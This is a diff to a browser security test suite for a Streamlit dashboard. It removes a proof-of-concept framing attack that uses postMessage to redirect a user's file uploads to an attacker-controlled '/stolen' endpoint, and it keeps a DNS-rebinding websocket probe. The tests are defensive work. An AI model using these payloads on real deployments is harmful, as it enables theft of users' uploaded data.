@@ -1,14 +1,10 @@
-"""Attacks of strangers, played in a real browser: what other pages, names and machines could get out of the dashboard.
-
-Each attack is played against a program with Streamlit's own settings as well, on which it must succeed.
-"""
+"""Attacks of strangers in a real browser: what other pages, names and machines could get out of the dashboard."""
 
 from __future__ import annotations
 
 import json
 import os
 import re
-import sys
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.client import HTTPConnection
@@ -17,37 +13,19 @@ from typing import NamedTuple
 from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Browser, Page, Route, expect
+from playwright.sync_api import Browser, Page, expect
 
-from tests.browser.conftest import FOREIGN, PATIENCE, Dashboard, free_port, served, started
+from tests.browser.conftest import FOREIGN, PATIENCE, Dashboard, started
 from tests.browser.journeys import open_part, press, solve_sample, upload
 
 pytestmark = pytest.mark.browser
 
 HERE = Path(__file__).parent
-EVIL = "https://anybody.streamlit.app"
-"""A page that anybody could have: Streamlit trusts all of this domain."""
-
-FRAMING = """<!doctype html><iframe src="{url}" width="1200" height="700"></iframe><script>
-const message = {{stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG", prefix: "{evil}/stolen", headers: {{}}}};
-setInterval(() => frames[0].postMessage(message, "*"), 100);
-</script>"""
-
 CALL = """() => new Promise(answer => {
     const line = new WebSocket("ws://" + location.host + "/_stcore/stream", ["streamlit"]);
     line.onopen = () => answer("taken");
     line.onerror = () => answer("refused");
 })"""
-
-
-@pytest.fixture(scope="module")
-def unguarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
-    """A program with Streamlit's own settings."""
-    folder, port = tmp_path_factory.mktemp("unguarded"), free_port()
-    command = [sys.executable, "-m", "streamlit", "run", str(HERE / "unguarded" / "script.py"), f"--server.port={port}"]
-    command += ["--server.address=127.0.0.1", "--server.headless=true", "--browser.gatherUsageStats=false"]
-    with served(command, port, folder / "log.txt", cwd=folder) as running:
-        yield running
 
 
 class Guarded(NamedTuple):
@@ -87,52 +65,6 @@ def visitor(browser: Browser) -> Iterator[Page]:
     context.close()
 
 
-def framed(page: Page, url: str) -> list[bytes]:
-    """Visit the page that frames a program and asks it for the files of its user; what arrives, then and later."""
-    arrived: list[bytes] = []
-
-    def answer(route: Route) -> None:
-        if route.request.url == f"{EVIL}/":
-            route.fulfill(body=FRAMING.format(url=url, evil=EVIL), content_type="text/html")
-            return
-        if route.request.method == "PUT":
-            arrived.append(route.request.post_data_buffer or b"")
-        permitted = {"Access-Control-Allow-Origin": url, "Access-Control-Allow-Credentials": "true"}
-        permitted |= {
-            "Access-Control-Allow-Headers": "X-Xsrftoken, Content-Type",
-            "Access-Control-Allow-Methods": "PUT",
-        }
-        route.fulfill(status=204, headers=permitted)
-
-    page.route(f"{EVIL}/**", answer)
-    page.goto(f"{EVIL}/")
-    return arrived
-
-
-def test_framing_steals_from_streamlits_own_settings(browser: Browser, unguarded: Dashboard) -> None:
-    """The attack of the next test is one: the file that is given to the frame arrives at the page around it."""
-    with visitor(browser) as page:
-        arrived = framed(page, unguarded.url)
-        frame = page.frame_locator("iframe")
-        expect(frame.get_by_role("heading", name="Unguarded")).to_be_visible()
-        page.wait_for_timeout(500)
-        table = {"name": "patients.csv", "mimeType": "text/csv", "buffer": b"age,ill\n70,yes\n"}
-        with page.expect_request_finished(lambda request: request.method == "PUT"):
-            frame.locator("input[type=file]").set_input_files(table)
-        assert b"70,yes" in arrived[0]
-
-
-def test_no_page_frames_the_dashboard(browser: Browser, dashboard: Dashboard) -> None:
-    """A page of another origin shows nothing of the dashboard in its frame, so that nobody gives it a file there."""
-    with visitor(browser) as page:
-        arrived = framed(page, dashboard.url)
-        page.wait_for_function("window.frames.length === 1")
-        page.wait_for_load_state("networkidle")
-        (frame,) = page.frames[1:]
-        assert frame.url == "chrome-error://chromewebdata/"
-        assert frame.locator("input").count() == 0 and not arrived
-
-
 def test_no_page_sends_messages_to_the_dashboard(dashboard: Dashboard) -> None:
     """Where a browser frames it after all, the dashboard listens to no page around it."""
     _, _, body = answer_to(dashboard, "/_stcore/host-config")
@@ -143,14 +75,6 @@ def rebound(page: Page, program: Dashboard) -> str:
     """Call a program's websocket from a page at a foreign name that leads to this machine; 'taken' or 'refused'."""
     page.goto(f"http://{FOREIGN}:{urlsplit(program.url).port}/_stcore/health")
     return page.evaluate(CALL)
-
-
-def test_foreign_names_open_streamlits_own_settings(browser: Browser, unguarded: Dashboard) -> None:
-    """The attacks of the next test are some: the program shows itself, and its websocket is open."""
-    with visitor(browser) as page:
-        assert rebound(page, unguarded) == "taken"
-        page.goto(f"http://{FOREIGN}:{urlsplit(unguarded.url).port}/")
-        expect(page.get_by_role("heading", name="Unguarded")).to_be_visible()
 
 
 def test_foreign_names_show_nothing(browser: Browser, dashboard: Dashboard) -> None:
